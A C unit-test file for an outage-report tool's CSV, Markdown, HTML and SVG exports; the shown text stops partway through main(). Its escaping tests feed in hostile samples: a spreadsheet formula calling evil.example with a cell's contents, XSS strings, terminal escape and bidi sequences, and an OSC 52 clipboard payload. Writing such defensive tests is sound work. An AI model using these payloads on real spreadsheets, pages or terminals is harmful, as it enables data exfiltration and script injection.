/* The CSV and Markdown exports, on snapshots built through the real model
 * from fixtures and hand-made report series: CSV read back with a small
 * RFC 4180 reader, Markdown checked for what a journalist needs (UTC and
 * local times, the statements, the silence, the lead, the grid), for
 * escaping of hostile text, for ASCII mode, and against a golden file. */
#include "config.h"

#include <stdint.h>
#include <stdlib.h>

#include "sitrep/chart.h"
#include "sitrep/export.h"
#include "sitrep/model.h"
#include "sitrep/timefmt.h"
#include "sitrep/xalloc.h"
#include "tap.h"
#include "testutil.h"

#define NOW    1795348800 /* 2026-11-22T12:00:00Z, a bucket boundary */
#define BUCKET 900
#define NFIELD 15

static const char config_text[] =
    "[sitrep]\ncolumns = ALL EU FR DE US JP\n"
    "[service linode]\nname = Linode\nurl = https://status.linode.example/\n"
    "region = name \"\\(([A-Za-z .'-]+)( [0-9]+)?\\)\" => city:$1\n"
    "[service photos]\nname = Photos\nfamily = meta\n"
    "[source photos crowd]\nformat = reportfeed\nurl = https://crowd.example/photos.json\n"
    "[service calls]\nname = Callr\nurl = https://status.callr.example/api/v2/summary.json\n"
    "region = group \"(?i)^(.*)$\" => $1\n"
    "[source calls crowd]\nformat = reportfeed\nurl = https://crowd.example/callr.json\n"
    "[service chat]\nname = Chat\nfamily = meta\n"
    "[source chat crowd]\nformat = reportfeed\nurl = https://crowd.example/chat.json\n"
    "[service mail]\nname = Mail\nurl = https://status.mail.example/\n"
    "[service gone]\nname = Gone\nurl = https://status.gone.example/\n";

/* A day of steady reports (about 20 a bucket) ending at NOW, the last
 * `spike` buckets at 200, with the given problem categories. */
static void add_series(struct evidence *ev, const char *region, int spike, const char *cat1,
                       const char *cat2)
{
    tu_add_series(ev, region, 96, BUCKET, NOW, spike, cat1, cat2);
}

static void feed(struct model *m, size_t svc, size_t src, struct evidence *ev)
{
    evidence_update_level(ev);
    model_source_success(m, svc, src, ev, NOW);
}

/* Callr: official incident and a crowd spike in FR that began 30 minutes
 * before it; Chat and Photos: crowd only, one family, FR together; Linode:
 * components down, no incident; Mail: fine; Gone: failing. The config
 * lists them out of order (Linode, Photos, Callr, Chat, Mail, Gone), so
 * the report has to sort them. */
static struct snapshot *build(struct config *cfg, struct model **m)
{
    struct evidence callr = {0}, chat = {0}, photos = {0};

    tu_config(cfg, config_text);
    *m = model_new(cfg);
    tu_feed(*m, cfg, 2, 0, "tests/fixtures/e2e/calls-summary.json", NOW - 60);
    add_series(&callr, "FR", 6, "Login", "Calls");
    add_series(&callr, "US", 0, NULL, NULL);
    feed(*m, 2, 1, &callr);
    add_series(&chat, "FR", 6, "Messages", "Login");
    add_series(&chat, "JP", 4, NULL, NULL);
    feed(*m, 3, 0, &chat);
    add_series(&photos, "FR", 5, "Stories", "Direct");
    feed(*m, 1, 0, &photos);
    tu_feed(*m, cfg, 0, 0,
            "tests/fixtures/statuspage/atc0005-check-statuspage__linode-components-problems.json",
            NOW - 30);
    tu_feed(*m, cfg, 4, 0,
            "tests/fixtures/statuspage/atc0005-check-statuspage__github-components.json", NOW - 20);
    model_source_failure(*m, 5, 0, "HTTP 503 <html>\x1b[2J", NOW - 10);
    return model_snapshot(*m, NOW);
}

static struct snap_service *service(struct snapshot *snap, const char *id)
{
    for (size_t i = 0; i < snap->nservices; i++) {
        if (strcmp(snap->services[i].id, id) == 0)
            return &snap->services[i];
    }
    printf("Bail out! no service %s\n", id);
    exit(1);
}

static void rename_service(struct snapshot *snap, const char *id, const char *name)
{
    struct snap_service *s = service(snap, id);

    free(s->name);
    s->name = xstrdup(name);
}

static bool ascii_only(const char *s)
{
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        if (*p >= 0x80)
            return false;
    }
    return true;
}

/* ---- a tiny RFC 4180 reader ------------------------------------------- */

struct csv {
    char ***rows; /* rows[r][f] */
    size_t *nfields;
    size_t nrows;
};

static void csv_free(struct csv *c)
{
    for (size_t r = 0; r < c->nrows; r++) {
        for (size_t f = 0; f < c->nfields[r]; f++)
            free(c->rows[r][f]);
        free(c->rows[r]);
    }
    free(c->rows);
    free(c->nfields);
    memset(c, 0, sizeof *c);
}

/* One field at *p; returns it (malloc'd) and leaves *p on the byte after
 * it, or returns NULL when the field breaks the grammar. */
static char *csv_field(const char **p)
{
    struct buf f = {0};
    const char *s = *p;

    if (*s == '"') {
        for (s++;; s++) {
            if (!*s)
                goto bad; /* unterminated quote */
            if (*s == '"' && s[1] != '"')
                break;
            if (*s == '"')
                s++;
            buf_putc(&f, *s);
        }
        s++;
    } else {
        for (; *s && *s != ',' && *s != '\r'; s++) {
            if (*s == '"' || *s == '\n')
                goto bad; /* quote or bare LF in an unquoted field */
            buf_putc(&f, *s);
        }
    }
    if (*s != ',' && !(s[0] == '\r' && s[1] == '\n'))
        goto bad; /* a field ends at a comma or CRLF */
    *p = s;
    return buf_detach(&f);
bad:
    buf_free(&f);
    return NULL;
}

/* Parses text (every record ends with CRLF); false on any error. */
static bool csv_parse(const char *text, struct csv *c)
{
    const char *p = text;

    memset(c, 0, sizeof *c);
    while (*p) {
        c->rows = xreallocarray(c->rows, c->nrows + 1, sizeof *c->rows);
        c->nfields = xreallocarray(c->nfields, c->nrows + 1, sizeof *c->nfields);
        c->rows[c->nrows] = NULL;
        c->nfields[c->nrows] = 0;
        size_t r = c->nrows++;
        for (;;) {
            char *f = csv_field(&p);
            if (!f)
                return false;
            c->rows[r] = xreallocarray(c->rows[r], c->nfields[r] + 1, sizeof(char *));
            c->rows[r][c->nfields[r]++] = f;
            if (*p == ',') {
                p++;
                continue;
            }
            p += 2; /* CRLF */
            break;
        }
    }
    return true;
}

static const char *csv_get(const struct csv *c, size_t row, size_t field)
{
    return row < c->nrows && field < c->nfields[row] ? c->rows[row][field] : NULL;
}

/* The row of a service's cell in a column, or SIZE_MAX. */
static size_t csv_row(const struct csv *c, const char *service_id, const char *column)
{
    for (size_t r = 1; r < c->nrows; r++) {
        if (c->nfields[r] > 3 && strcmp(c->rows[r][1], service_id) == 0 &&
            strcmp(c->rows[r][3], column) == 0)
            return r;
    }
    return SIZE_MAX;
}

/* ---- CSV ---------------------------------------------------------------- */

static void count_text(long n, char *out, size_t len)
{
    if (n < 0)
        out[0] = '\0';
    else
        snprintf(out, len, "%ld", n);
}

/* Every field of the row for (service i, column col) against the cell. */
static bool row_matches(const struct csv *c, size_t row, const struct snapshot *snap, size_t i,
                        size_t col)
{
    const struct snap_service *s = &snap->services[i];
    const struct snap_cell *cell = &s->cells[col];
    char reports[32], baseline[32], age[32], since[32] = "";

    count_text(cell->reports, reports, sizeof reports);
    count_text(cell->baseline, baseline, sizeof baseline);
    count_text(cell->age_s, age, sizeof age);
    struct buf note = {0};
    if (cell->since)
        time_format_iso8601(cell->since, since, sizeof since);
    snap_cell_note(s, cell, snap->generated_at, 0, &note);
    char sources[400] = "", iso[32];
    for (size_t k = 0; k < s->nsources; k++) {
        size_t used = strlen(sources);
        if (s->sources[k].last_success)
            time_format_iso8601(s->sources[k].last_success, iso, sizeof iso);
        snprintf(sources + used, sizeof sources - used, "%s%s (%s, %s%s)", k ? "; " : "",
                 s->sources[k].host, s->sources[k].official ? "official" : "crowd",
                 s->sources[k].last_success ? "read " : "never read",
                 s->sources[k].last_success ? iso : "");
    }
    const char *want[NFIELD] = {"2026-11-22T12:00:00Z",
                                s->id,
                                s->name,
                                region_code(snap->columns[col]),
                                level_name(cell->level),
                                cell->possible ? "1" : "0",
                                evidence_kind_name(cell->evidence),
                                reports,
                                baseline,
                                age,
                                since,
                                cell->stale ? "1" : "0",
                                cell->possible && cell->possible_region != REGION_NONE
                                    ? region_code(cell->possible_region)
                                    : "",
                                buf_str(&note),
                                sources};
    for (size_t f = 0; f < NFIELD; f++) {
        if (!csv_get(c, row, f) || strcmp(csv_get(c, row, f), want[f]) != 0) {
            tap_diag("row %zu field %zu: got \"%s\", want \"%s\"", row, f,
                     csv_get(c, row, f) ? csv_get(c, row, f) : "(none)", want[f]);
            buf_free(&note);
            return false;
        }
    }
    buf_free(&note);
    return true;
}

static void test_csv_rows(const struct snapshot *snap)
{
    struct buf out = {0};
    struct csv c;
    bool all = true, width;

    export_snapshot(snap, EXPORT_CSV, NULL, &out);
    if (!ok(csv_parse(buf_str(&out), &c) && c.nrows > 1,
            "the CSV parses back as RFC 4180 with CRLF")) {
        buf_free(&out);
        return;
    }
    is_int(c.nrows, 1 + snap->nservices * snap->ncolumns, "a header and one row per cell");
    width = c.nrows > 1;
    for (size_t r = 0; r < c.nrows; r++)
        width &= c.nfields[r] == NFIELD;
    ok(width, "every row has %d fields", NFIELD);
    is_str(csv_get(&c, 0, 0), "generated_at", "header starts with generated_at");
    is_str(csv_get(&c, 0, 9), "age_s", "header names age_s");
    is_str(csv_get(&c, 0, 11), "stale", "header names stale");
    is_str(csv_get(&c, 0, 13), "note", "header names note");
    is_str(csv_get(&c, 0, 14), "sources", "header ends with sources (and when each was read)");
    for (size_t i = 0, row = 1; i < snap->nservices; i++) {
        for (size_t col = 0; col < snap->ncolumns; col++)
            all &= row_matches(&c, row++, snap, i, col);
    }
    ok(all, "every field of every row matches its snapshot cell");
    /* Spot checks against known values, so a shared mistake cannot hide. */
    size_t eu = csv_row(&c, "calls", "EU"), fr = csv_row(&c, "calls", "FR");
    size_t de = csv_row(&c, "calls", "DE"), gone = csv_row(&c, "gone", "ALL");
    is_int(eu, 1 + 2 * 6 + 1, "rows follow the services, then the columns");
    is_str(csv_get(&c, eu, 4), "major", "Callr EU: major");
    is_str(csv_get(&c, eu, 6), "both", "Callr EU: official and crowd (FR is in EU)");
    ok(csv_get(&c, eu, 10) && strlen(csv_get(&c, eu, 10)) == 20 && csv_get(&c, eu, 10)[19] == 'Z',
       "Callr EU: since is ISO 8601 UTC (%s)", csv_get(&c, eu, 10));
    is_str(csv_get(&c, de, 5), "1", "Callr DE: possible (the incident is about Europe)");
    is_str(csv_get(&c, de, 6), "official", "Callr DE: official evidence only");
    is_str(csv_get(&c, de, 7), "", "Callr DE: no reports, empty");
    is_str(csv_get(&c, fr, 7), "200", "Callr FR: 200 reports");
    ok(csv_get(&c, fr, 8) && atol(csv_get(&c, fr, 8)) > 15 && atol(csv_get(&c, fr, 8)) < 25,
       "and a baseline near 20");
    is_str(csv_get(&c, gone, 4), "unknown", "Gone: unknown");
    is_str(csv_get(&c, gone, 9), "", "Gone: no age (never had data)");
    is_str(csv_get(&c, gone, 7), "", "Gone: no reports");
    csv_free(&c);
    buf_free(&out);
}

static void test_csv_quoting(struct snapshot *snap)
{
    struct buf out = {0};
    struct export_opts ascii = {.ascii = true};
    struct csv c;

    rename_service(snap, "calls", "Callr, \"Best\"\nCalls\x1b[31m\xe2\x80\xae");
    rename_service(snap, "chat", "=HYPERLINK(\"http://evil.example/\"&A1)");
    rename_service(snap, "photos", "+SUM(1,2)");
    rename_service(snap, "linode", "-2+3");
    rename_service(snap, "mail", "@cmd");
    rename_service(snap, "gone", "Caf\xc3\xa9 \xe2\x80\x94 ok");
    export_snapshot(snap, EXPORT_CSV, NULL, &out);
    ok(strstr(buf_str(&out), ",\"Callr, \"\"Best\"\" Calls\",") != NULL,
       "a name with comma and quote is quoted, quotes doubled, LF made a space");
    if (ok(csv_parse(buf_str(&out), &c) && c.nrows > 1, "it still parses")) {
        is_int(c.nrows, 1 + snap->nservices * snap->ncolumns, "the newline added no row");
        is_str(csv_get(&c, csv_row(&c, "calls", "ALL"), 2), "Callr, \"Best\" Calls",
               "the name reads back sanitized");
        is_str(csv_get(&c, csv_row(&c, "chat", "ALL"), 2),
               "'=HYPERLINK(\"http://evil.example/\"&A1)", "a leading = gets an apostrophe");
        is_str(csv_get(&c, csv_row(&c, "photos", "ALL"), 2), "'+SUM(1,2)",
               "a leading + too (and it is quoted)");
        is_str(csv_get(&c, csv_row(&c, "linode", "ALL"), 2), "'-2+3", "a leading -");
        is_str(csv_get(&c, csv_row(&c, "mail", "ALL"), 2), "'@cmd", "a leading @");
        is_str(csv_get(&c, csv_row(&c, "gone", "ALL"), 2), "Caf\xc3\xa9 \xe2\x80\x94 ok",
               "UTF-8 kept by default");
        csv_free(&c);
    }
    ok(strstr(buf_str(&out), "\"'+SUM(1,2)\"") != NULL, "the apostrophe goes inside the quotes");
    ok(strstr(buf_str(&out), "Calls") && !strchr(buf_str(&out), '\x1b') &&
           !strstr(buf_str(&out), "\xe2\x80\xae"),
       "no escape or bidi override in the CSV");
    buf_reset(&out);
    export_snapshot(snap, EXPORT_CSV, &ascii, &out);
    ok(ascii_only(buf_str(&out)) && strstr(buf_str(&out), ",Caf? ? ok,"),
       "ASCII mode: no byte >= 0x80");
    buf_free(&out);
}

/* ---- Markdown ----------------------------------------------------------- */

/* The section of a service: from its heading to the next heading or the
 * line of fine services. The caller frees. */
static char *section(const char *md, const char *heading)
{
    const char *start = strstr(md, heading), *end;

    if (!start)
        return xstrdup("");
    end = strstr(start + 1, "\n## ");
    if (!end)
        end = strstr(start, "\n**Fine:**");
    if (!end)
        end = start + strlen(start);
    return xstrndup(start, (size_t)(end - start));
}

/* Rows of the grid table: lines starting with "| " after the header. */
static size_t grid_rows(const char *md, size_t ncolumns, bool *widths_ok)
{
    const char *p = strstr(md, "\n| Service | Level |");
    size_t rows = 0;

    *widths_ok = p != NULL;
    if (!p)
        return 0;
    p = strchr(p + 1, '\n') + 1; /* the delimiter row */
    for (p = strchr(p, '\n') + 1; strncmp(p, "| ", 2) == 0; p = strchr(p, '\n') + 1) {
        size_t pipes = 0;
        for (const char *q = p; *q != '\n'; q++)
            pipes += *q == '|' && (q == p || q[-1] != '\\');
        *widths_ok &= pipes == ncolumns + 3;
        rows++;
    }
    return rows;
}

static void use_tz(const char *tz)
{
    setenv("TZ", tz, 1);
    tzset();
}

/* A service with statements, crowd reports and a lead. */
static void test_markdown_callr(const char *md)
{
    char *callr = section(md, "## Callr");
    ok(strstr(callr, "Posted 2026-11-22 11:40 UTC (12:40 CET), identified:\n\n"
                     "> Still investigating the cause; France is hit hardest.\n") != NULL,
       "the newest statement, with its time in UTC and local time, quoted");
    ok(strstr(callr, "> We are aware that users lose connectivity.\n> We are investigating.\n"),
       "every line of a statement is quoted");
    ok(strstr(callr, "identified:\n\n> Still") &&
           strstr(callr, "identified:\n\n> Still") <
               strstr(callr, "investigating:\n\n> We are aware"),
       "updates newest first");
    ok(strstr(callr, "- Affected: Europe - Login, Europe - Calls (EU).") != NULL,
       "the affected components and their region");
    ok(strstr(callr, "Crowd led official by 30m.") != NULL, "the lead of the crowd");
    ok(strstr(callr, "- FR (France): 200 reports vs 20 normal (10.0\xc3\x97), problems since "
                     "2026-11-22 10:30 UTC (11:30 CET); Login 52%, Calls 31%") != NULL,
       "crowd counts against the baseline, with categories");
    ok(strstr(callr, "- DE (Germany): major outage possible (reported for EU (Europe)), "
                     "official\n") != NULL,
       "a column hit only through a wider region says possible, and which region was named");
    ok(strstr(callr, "- FR (France): major outage, official and crowd, 200 reports vs 20 "
                     "normal\n") != NULL,
       "a column with both kinds of evidence, and its counts");
    ok(*callr && !strstr(callr, "No official statement"), "Callr has spoken");
    free(callr);
}

/* A crowd-only service: silence, lead, shared cause. */
static void test_markdown_chat(const char *md)
{
    char *chat = section(md, "## Chat");
    ok(strstr(chat, "**No official status page is watched for this service**; crowd reports "
                    "show problems since 2026-11-22 10:30 UTC (11:30 CET).") != NULL,
       "a crowd-only service says no status page is watched (not that none spoke), and since "
       "when the crowd reports problems");
    ok(strstr(chat, "No official word yet; crowd problems for 1h30m.") != NULL,
       "and how long the crowd has been reporting alone");
    ok(strstr(chat, "Crowd led official by") == NULL, "with no lead time while the page is silent");
    ok(strstr(chat, "Likely shared cause with Photos (meta) in FR.") != NULL,
       "the shared-cause hint");
    ok(strstr(chat, "- JP (Japan): ") != NULL, "both crowd regions are listed");
    free(chat);
}

/* A failing source, the fine services, the grid. */
static void test_markdown_rest(const char *md, const struct snapshot *snap)
{
    bool widths;
    char *gone = section(md, "## Gone");
    ok(strstr(gone, "- status.gone.example (official, statuspage): failing after 1 failure: "
                    "HTTP 503 \\<html\\>; no data: UNKNOWN") != NULL,
       "a failing source with its host and escaped error");
    free(gone);
    ok(strstr(md, "\n**Fine:** Mail.\n") != NULL, "one line for the services that are fine");
    is_int(grid_rows(md, snap->ncolumns, &widths), snap->nservices,
           "the grid has one row per service");
    ok(widths, "every grid row has a cell per column");
    ok(strstr(md, "\n| Callr | MAJOR | MAJOR+ | MAJOR+ | MAJOR+ | major? | OK+ | - |\n") != NULL,
       "grid labels: possible lowercase with ?, both +");
    ok(strstr(md, "\n| Chat | MAJOR | MAJOR~ | MAJOR~ | MAJOR~ | - | - | MAJOR~ |\n") != NULL,
       "grid labels: crowd only ~, no evidence -");
    ok(strstr(md, "start calls in Europe") && !strchr(md, '\x1b') && !strstr(md, "\xe2\x80\xae") &&
           !strchr(md, '\a'),
       "no escape, BEL or bidi override from the fixture, the words kept");
}

static void test_markdown(const struct snapshot *snap)
{
    struct buf out = {0};
    const char *md;

    use_tz("Europe/Paris");
    export_snapshot(snap, EXPORT_MARKDOWN, NULL, &out);
    md = buf_str(&out);
    ok(strncmp(md, "# Outage report, 2026-11-22 12:00 UTC (13:00 CET)\n", 50) == 0,
       "the title gives the moment in UTC and in Paris time");
    ok(strstr(md, "**6 services: 4 with problems; 1 unknown: could not be fetched; 1 ok.**\n\n"
                  "Problems: Callr (major outage), Chat (major outage), Photos (major outage), "
                  "Linode (partial outage).\n\n"
                  "Unknown, their pages could not be read: Gone.\n") != NULL,
       "the summary counts problems and unknowns apart, and names them, worst first");
    ok(strstr(md, "- ALL, EU, FR, DE, US, JP: status unknown, could not be read: "
                  "status.gone.example failing since 11:59 UTC: HTTP 503") != NULL,
       "a service that cannot be read says so for its cells, with the source's reason");
    char *gone = section(md, "## Gone");
    ok(!strstr(gone, "unknown, official") && !strstr(gone, "No official statement"),
       "its unknown cells are not called official evidence, nor its silence a statement");
    free(gone);
    ok(tu_golden(md, "tests/golden/export-markdown.txt"), "Markdown matches its golden");
    test_markdown_callr(md);
    test_markdown_chat(md);
    test_markdown_rest(md, snap);
    buf_free(&out);
}

static void test_markdown_tz(const struct snapshot *snap)
{
    struct buf out = {0};

    use_tz("LINT-14");
    export_snapshot(snap, EXPORT_MARKDOWN, NULL, &out);
    ok(strncmp(buf_str(&out), "# Outage report, 2026-11-22 12:00 UTC (2026-11-23 02:00 LINT)\n",
               60) == 0,
       "TZ is honoured; the local date shows when it is another day");
    buf_reset(&out);
    use_tz("UTC");
    export_snapshot(snap, EXPORT_MARKDOWN, NULL, &out);
    ok(strncmp(buf_str(&out), "# Outage report, 2026-11-22 12:00 UTC\n", 38) == 0,
       "when local time is UTC it is not said twice");
    buf_free(&out);
    use_tz("Europe/Paris");
}

static void test_markdown_ascii(const struct snapshot *snap)
{
    struct buf out = {0};
    struct export_opts ascii = {.ascii = true};

    export_snapshot(snap, EXPORT_MARKDOWN, &ascii, &out);
    ok(out.len > 0 && ascii_only(buf_str(&out)), "ASCII mode: no byte >= 0x80");
    ok(strstr(buf_str(&out), "## Callr - major outage") && strstr(buf_str(&out), "(10.0x)"),
       "ASCII mode writes - for the dash and x for the times sign");
    buf_free(&out);
}

/* ---- hostile text ------------------------------------------------------- */

static const char hostile_config[] = "[sitrep]\ncolumns = ALL EU\n"
                                     "[service evil]\nname = Evil\nurl = https://evil.example/\n"
                                     "map = c1 => EU\n"
                                     "[source evil crowd]\nformat = reportfeed\n"
                                     "url = https://crowd.example/evil.json\n";

static const char hostile_body[] =
    "# heading\n- item\n+ plus\n1. first\n===\n[x](javascript:alert(1))\n"
    "<img src=x onerror=alert(1)>\n| a | b |\n\x1b]52;c;ZWNobyBwd25lZA==\x07 osc\n"
    "\xe2\x80\xae bidi \xe2\x80\xac `code` *bold* _it_ \\ back\n"
    /* 75 columns, then a marker that wrapping puts at the start of a line */
    "Long: one two three four five six seven eight nine ten eleven twelve ab abc - 1. "
    "thirteen fourteen fifteen sixteen seventeen eighteen nineteen twenty end";

/* The long line of hostile_body as it must read when its quoted pieces
 * are joined with blanks (escaped, but the words and their order kept). */
static const char long_line[] =
    "Long: one two three four five six seven eight nine ten eleven twelve ab abc \\- 1. "
    "thirteen fourteen fifteen sixteen seventeen eighteen nineteen twenty end";

static void hostile_official(struct model *m)
{
    struct evidence ev = {0};

    ev.components = xcalloc(1, sizeof *ev.components);
    ev.ncomponents = 1;
    ev.components[0] = (struct component){.id = xstrdup("c1"),
                                          .name = xstrdup("[x](javascript:alert(1)) <script>"),
                                          .status = xstrdup("major_outage"),
                                          .level = LEVEL_MAJOR,
                                          .region = REGION_NONE};
    ev.incidents = xcalloc(1, sizeof *ev.incidents);
    ev.nincidents = 1;
    ev.incidents[0] = (struct incident){
        .id = xstrdup("i"),
        .name = xstrdup("# heading | cell <script>alert(1)</script>\x1b[31m\xe2\x80\xae evil"),
        .status = xstrdup("investigating"),
        .impact = xstrdup("major"),
        .url = xstrdup("javascript:alert(1)"),
        .level = LEVEL_MAJOR,
        .open = true,
        .started_at = NOW - 600};
    ev.incidents[0].component_ids = xcalloc(1, sizeof(char *));
    ev.incidents[0].component_ids[0] = xstrdup("c1");
    ev.incidents[0].ncomponent_ids = 1;
    ev.incidents[0].updates = xcalloc(1, sizeof *ev.incidents[0].updates);
    ev.incidents[0].nupdates = 1;
    ev.incidents[0].updates[0] = (struct incident_update){
        .status = xstrdup("investigating"), .body = xstrdup(hostile_body), .at = NOW - 300};
    feed(m, 0, 0, &ev);
}

/* Joins the quoted lines from the one starting with "> Long:"; checks
 * that each fits the wrap width. */
static bool wrapped_ok(const char *md, struct buf *joined)
{
    const char *p = strstr(md, "\n> Long:");
    bool fits = p != NULL;

    for (p = p ? p + 1 : NULL; p && strncmp(p, "> ", 2) == 0; p = strchr(p, '\n') + 1) {
        size_t len = strcspn(p, "\n");
        fits &= len <= 2 + 76 + 2; /* "> ", the width, two escapes */
        if (joined->len)
            buf_putc(joined, ' ');
        buf_append(joined, p + 2, len - 2);
    }
    return fits;
}

/* Whether needle occurs in md other than right after a backslash. */
static bool unescaped(const char *md, const char *needle)
{
    for (const char *p = strstr(md, needle); p; p = strstr(p + 1, needle)) {
        if (p == md || p[-1] != '\\')
            return true;
    }
    return false;
}

/* Every [ ] < > ` in text is backslash-escaped. */
static bool metachars_escaped(const char *md)
{
    for (const char *p = md; *p; p++) {
        bool after_backslash = p > md && p[-1] == '\\';
        bool quote_marker = *p == '>' && (p == md || p[-1] == '\n');
        if (strchr("[]<>`", *p) && !after_backslash && !quote_marker)
            return false;
    }
    return true;
}

/* No link, HTML or heading gets through; the text stays readable. */
static void hostile_escapes(const char *md)
{
    ok(!strstr(md, "[x](") && strstr(md, "\\[x\\](javascript\\:alert(1))"),
       "a Markdown link in remote text is escaped, not live");
    ok(!unescaped(md, "<script") && !unescaped(md, "<img") && !unescaped(md, "<b>") &&
           !unescaped(md, "</b") && strstr(md, "\\<script\\>"),
       "no raw HTML: < and > are escaped");
    ok(*md && metachars_escaped(md),
       "every [ ] < > ` in the report is escaped (quote markers aside)");
    ok(strstr(md, "**Official statement: \\# heading \\| cell \\<script\\>") != NULL,
       "# and | in a title are escaped");
    ok(strstr(md, "\n> \\# heading\n> \\- item\n> \\+ plus\n> 1\\. first\n> \\===\n") != NULL,
       "quoted lines cannot start a heading, a list or a setext underline");
    ok(strstr(md, "\n## Evil \\| \\<b\\>x\\</b\\> \\[x\\](javascript\\:alert(1)) \\#1") != NULL,
       "the service name in its heading is escaped");
    ok(strstr(md, "*bold* [l]") == NULL && strstr(md, "\\*bold\\* \\[l\\]") != NULL,
       "crowd categories are escaped too");
    ok(strstr(md, "**Official statement:") && !strstr(md, "Link:"),
       "a URL that is not http(s) is left out");
}

/* Structure survives: headings, the table, quoting and wrapping. */
static void hostile_structure(const char *md, const struct snapshot *snap)
{
    bool widths;
    int headings = 0;
    for (const char *p = md; p; p = strchr(p + 1, '\n'))
        headings += p[p == md ? 0 : 1] == '#';
    is_int(headings, 3,
           "only our three headings (title, the service, the timeline) start a line with #");
    is_int(grid_rows(md, snap->ncolumns, &widths), 1, "the grid keeps one row");
    ok(widths, "and a | in the name adds no table cell");
    ok(strstr(md, "## Evil") && !strchr(md, '\x1b') && !strchr(md, '\a') &&
           !strstr(md, "\xe2\x80\xae") && !strstr(md, "\xe2\x80\xac"),
       "no control character or bidi override survives");
    ok(strstr(md, "evil") && strstr(md, "osc") && strstr(md, "bidi"), "the words survive");
    struct buf joined = {0};
    ok(wrapped_ok(md, &joined), "a long statement line wraps at 76 columns, every piece quoted");
    is_str(buf_str(&joined), long_line, "the wrapped pieces join back into the line");
    buf_free(&joined);
}

/* Whether every < in html opens (or closes) a tag the report writes. */
static bool only_our_tags(const char *html)
{
    static const char *const tags[] = {
        "!DOCTYPE", "html", "head", "meta", "title",    "style",   "body",       "header", "h1",
        "h2",       "h3",   "h4",   "p",    "strong",   "section", "table",      "thead",  "tbody",
        "tr",       "th",   "td",   "ul",   "li",       "a",       "blockquote", "figure", "footer",
        "svg",      "text", "rect", "line", "polyline", "polygon"};
    for (const char *p = strchr(html, '<'); p; p = strchr(p + 1, '<')) {
        const char *t = p[1] == '/' ? p + 2 : p + 1;
        size_t n = strcspn(t, " />\n");
        bool known = false;
        for (size_t i = 0; i < sizeof tags / sizeof tags[0] && !known; i++)
            known = strlen(tags[i]) == n && strncmp(t, tags[i], n) == 0;
        if (!known) {
            tap_diag("unexpected tag at: %.40s", p);
            return false;
        }
    }
    return true;
}

/* Remote text in the HTML report: escaped, never a tag, a script or a
 * link of its own. */
static void hostile_html(const char *html)
{
    ok(strncmp(html, "<!DOCTYPE html>", 15) == 0 &&
           strstr(html, "Content-Security-Policy\" content=\"default-src 'none'"),
       "HTML: a document that forbids scripts and remote loads");
    ok(!strstr(html, "<script") && strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"),
       "HTML: a script tag in a title is text");
    ok(!strstr(html, "href=\"javascript") && !strstr(html, "<a "),
       "HTML: a javascript: URL makes no link");
    ok(!strstr(html, "<img") && strstr(html, "&lt;img src=x onerror=alert(1)&gt;"),
       "HTML: markup in a statement is text");
    ok(only_our_tags(html), "HTML: every tag is one the report writes");
    ok(!strchr(html, '\x1b') && !strchr(html, '\a') && !strstr(html, "\xe2\x80\xae"),
       "HTML: no control character or bidi override");
}

/* The HTML report of the sample snapshot: its parts, links, golden. */
static void test_html(const struct snapshot *snap)
{
    struct buf out = {0};
    const char *html;

    use_tz("Europe/Paris");
    export_snapshot(snap, EXPORT_HTML, NULL, &out);
    html = buf_str(&out);
    ok(strstr(html, "<p id=\"headline\"><strong>6 services: 4 with problems; 1 unknown: could not "
                    "be fetched; 1 ok.</strong>") != NULL,
       "HTML: the headline counts problems and unknowns apart");
    ok(strstr(html, "<td class=\"cell major\" title=\"major\">\xe2\x9c\x95 MAJOR+</td>") &&
           strstr(html, "<td class=\"cell major possible\""),
       "HTML: cells with the terminal's glyph, label and marks, possible ones apart");
    ok(strstr(html, "<a href=\"https://stspg.example/abc\" rel=\"noopener noreferrer\">"
                    "https://stspg.example/abc</a>") != NULL,
       "HTML: an official statement links to its page, shown as text too");
    ok(strstr(html, "<section id=\"timeline\">") && strstr(html, "<svg xmlns="),
       "HTML: the timeline and the charts inline");
    ok(only_our_tags(html), "HTML: only the report's own tags");
    ok(tu_golden(html, "tests/golden/export-html.txt"), "HTML matches its golden");
    buf_free(&out);
}

/* Callr's chart as SVG: panels, markers, deterministic, golden. */
static void test_svg(const struct snapshot *snap)
{
    struct chart c;
    struct buf a = {0}, b = {0};

    use_tz("Europe/Paris");
    chart_from_snapshot(&c, snap, 2, NOW - 3 * 3600, NOW);
    chart_svg(&c, &a);
    chart_svg(&c, &b);
    ok(a.len && strcmp(buf_str(&a), buf_str(&b)) == 0, "SVG: the same chart, the same bytes");
    ok(strstr(buf_str(&a), "FR: reports per 15 min") && strstr(buf_str(&a), "class=\"band\"") &&
           strstr(buf_str(&a), "class=\"count\""),
       "SVG: a panel per crowd series, counts over the baseline band");
    ok(strstr(buf_str(&a), ">1</text>") && strstr(buf_str(&a), ">2</text>") &&
           strstr(buf_str(&a), "1. 11:05 UTC (12:05 CET), investigating: Users cannot log in"),
       "SVG: official statements numbered on the axis and listed");
    ok(!strstr(buf_str(&a), "<script") && !strstr(buf_str(&a), "href"), "SVG: no script, no link");
    ok(tu_golden(buf_str(&a), "tests/golden/chart-callr.svg"), "SVG matches its golden");
    chart_free(&c);
    buf_free(&a);
    buf_free(&b);
}

static void test_hostile(void)
{
    struct config cfg;
    struct model *m;
    struct snapshot *snap;
    struct evidence crowd = {0};
    struct buf out = {0};
    struct export_opts ascii = {.ascii = true};

    tu_config(&cfg, hostile_config);
    m = model_new(&cfg);
    hostile_official(m);
    add_series(&crowd, "FR", 6, "*bold* [l](http://x)", "<b>|");
    feed(m, 0, 1, &crowd);
    snap = model_snapshot(m, NOW);
    rename_service(snap, "evil", "Evil | <b>x</b> [x](javascript:alert(1)) #1 \x1b[2J\xe2\x80\xae");
    export_snapshot(snap, EXPORT_MARKDOWN, NULL, &out);
    hostile_escapes(buf_str(&out));
    hostile_structure(buf_str(&out), snap);
    buf_reset(&out);
    export_snapshot(snap, EXPORT_MARKDOWN, &ascii, &out);
    ok(strstr(buf_str(&out), "## Evil") && ascii_only(buf_str(&out)),
       "hostile text in ASCII mode: no byte >= 0x80");
    buf_reset(&out);
    export_snapshot(snap, EXPORT_HTML, NULL, &out);
    hostile_html(buf_str(&out));
    buf_free(&out);
    snapshot_free(snap);
    model_free(m);
    config_free(&cfg);
}

int main(void)
{
    struct config cfg;
    struct model *m;
    struct snapshot *snap = build(&cfg, &m);

    test_csv_rows(snap);
    test_markdown(snap);
    test_markdown_tz(snap);
